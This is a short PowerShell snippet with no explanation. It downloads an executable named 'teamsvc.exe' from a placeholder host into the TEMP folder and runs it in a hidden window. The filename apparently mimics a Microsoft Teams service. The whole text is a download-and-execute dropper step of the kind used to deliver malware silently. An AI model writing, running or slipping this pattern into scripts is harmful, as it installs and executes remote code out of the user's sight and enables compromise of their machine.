$exe = Join-Path $env:TEMP 'teamsvc.exe'
(New-Object Net.WebClient).DownloadFile('https://modules.example.net/teamsvc.exe', $exe)
Start-Process -FilePath $exe -WindowStyle Hidden
